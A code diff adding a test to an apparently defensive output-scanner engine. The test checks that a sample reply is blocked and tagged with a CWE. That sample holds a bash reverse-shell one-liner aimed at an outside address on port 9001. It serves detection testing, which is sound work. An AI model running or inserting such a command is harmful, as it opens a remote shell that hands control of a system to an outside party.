@@ -237,6 +237,17 @@ def test_to_dict_round_trips_through_json(engine):
     assert json.loads(json.dumps(s.to_dict())) == s.to_dict()
 
 
+def test_unsafe_code_threats_carry_their_cwe(engine):
+    reply = "Run this:\n```bash\nbash -i >& /dev/tcp/198.51.100.4/9001 0>&1\n```"
+    result = engine.validate_output(reply)
+    assert result.verdict == "block"
+    code = [t for t in result.threats if t.scanner == "unsafe_code"]
+    assert code and code[0].metadata.get("cwe", "").startswith("CWE-")
+    assert code[0].to_dict()["metadata"] == code[0].metadata
+    # Threats without scanner facts have an empty dict, not None.
+    assert engine.analyze_input(ATTACK).threats[0].metadata == {}
+
+
 def test_reprs_say_what_the_object_is(engine):
     a = engine.analyze_input(ATTACK)
     r = repr(a)
